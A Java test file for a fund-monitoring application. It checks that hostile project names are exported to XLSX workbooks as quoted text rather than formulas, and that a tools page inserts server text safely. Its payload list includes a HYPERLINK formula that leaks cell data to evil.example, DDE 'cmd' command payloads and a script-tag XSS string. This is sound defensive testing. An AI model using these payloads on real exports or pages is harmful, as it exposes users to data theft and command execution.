package cn.fundmonitor.reports;

import static cn.fundmonitor.support.TestUsers.*;
import static org.assertj.core.api.Assertions.assertThat;

import cn.fundmonitor.common.Workbooks;
import cn.fundmonitor.filing.FilingService;
import cn.fundmonitor.filing.Quarter;
import cn.fundmonitor.support.FundMonitorTest;
import cn.fundmonitor.support.Funding;
import cn.fundmonitor.support.Http;
import cn.fundmonitor.support.Projects;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.core.io.ClassPathResource;

/**
 * Stored text is output safely (issue 13): project names a hostile unit chose go through the
 * generated workbooks as text that stays text (quote prefix, never a formula), and the /tools/
 * page puts server text into the page only as text.
 */
@FundMonitorTest
class StoredTextOutputTest {

  static final Quarter Q = new Quarter(2026, 4);
  static final List<String> HOSTILE = List.of(
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "<script>alert('项目')</script>");

  @LocalServerPort int port;
  @Autowired Projects projects;
  @Autowired Funding funding;
  @Autowired FilingService filings;
  static final Map<String, String> CODES = new LinkedHashMap<>();
  Http http;

  @BeforeEach
  void hostileProjects() {
    http = new Http(port);
    synchronized (CODES) {
      if (!CODES.isEmpty()) {
        return;
      }
      for (var name : HOSTILE) {
        var code = projects.warehoused(XINGNING_ECO, "450102", name);
        funding.fund(code, "450102", "100000", LocalDate.of(2026, 3, 2));
        filings.open(Q.key(code), Q, null);
        CODES.put(code, name);
      }
    }
  }

  @Test
  void hostileNamesStayTextInTheFilingExport() throws Exception {
    var response = http.download("/api/exports/filings?year=2026&quarter=4", Workbooks.XLSX,
        GUANGXI_FINANCE, PASSWORD);
    assertThat(response.statusCode()).isEqualTo(200);
    assertNamesAreText(response.body(), 0, 0, 1);
  }

  /** Every hostile name is in the sheet as a string cell, with the quote prefix if Excel would read a formula. */
  void assertNamesAreText(byte[] xlsx, int sheetIndex, int codeColumn, int nameColumn)
      throws Exception {
    try (var wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
      var sheet = wb.getSheetAt(sheetIndex);
      for (var row : sheet) {
        for (var cell : row) {
          assertThat(cell.getCellType()).as("no formula anywhere").isNotEqualTo(CellType.FORMULA);
        }
      }
      var seen = new LinkedHashMap<String, Boolean>();
      for (var row : sheet) {
        var code = row.getCell(codeColumn);
        if (code == null || !CODES.containsKey(code.getStringCellValue())) {
          continue;
        }
        var name = row.getCell(nameColumn);
        assertThat(name.getCellType()).isEqualTo(CellType.STRING);
        assertThat(name.getStringCellValue()).isEqualTo(CODES.get(code.getStringCellValue()));
        seen.put(name.getStringCellValue(), name.getCellStyle().getQuotePrefixed());
      }
      assertThat(seen).containsOnlyKeys(HOSTILE);
      assertThat(seen).containsEntry(HOSTILE.get(0), true).containsEntry(HOSTILE.get(1), true)
          .containsEntry(HOSTILE.get(2), true).containsEntry(HOSTILE.get(3), true)
          .containsEntry(HOSTILE.get(4), false);
    }
  }

  @Test
  void theToolsPageInsertsServerTextOnlyAsText() throws Exception {
    var page = new String(new ClassPathResource("static/tools/index.html").getInputStream()
        .readAllBytes(), StandardCharsets.UTF_8);
    var script = page.substring(page.indexOf("<script>"));
    assertThat(script).doesNotContain("insertAdjacentHTML").doesNotContain("outerHTML")
        .doesNotContain("document.write").doesNotContain("eval(").doesNotContain("new Function");
    // innerHTML only ever receives a fixed literal: markup the page wrote itself, no data
    var assignment = Pattern.compile("innerHTML\\s*=\\s*([^;]*);").matcher(script);
    int count = 0;
    while (assignment.find()) {
      count++;
      assertThat(assignment.group(1).trim()).as(assignment.group(0))
          .matches("'[^'+`$]*'");
    }
    assertThat(count).isGreaterThan(0);
    assertThat(script).contains("textContent");

    // and the page is served so that an injected script could not run anyway
    var served = http.get("/tools/", null, null);
    assertThat(served.statusCode()).isEqualTo(200);
    assertThat(served.headers().firstValue("Content-Security-Policy").orElse(""))
        .contains("object-src 'none'").contains("frame-ancestors 'none'");
    assertThat(served.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
  }
}
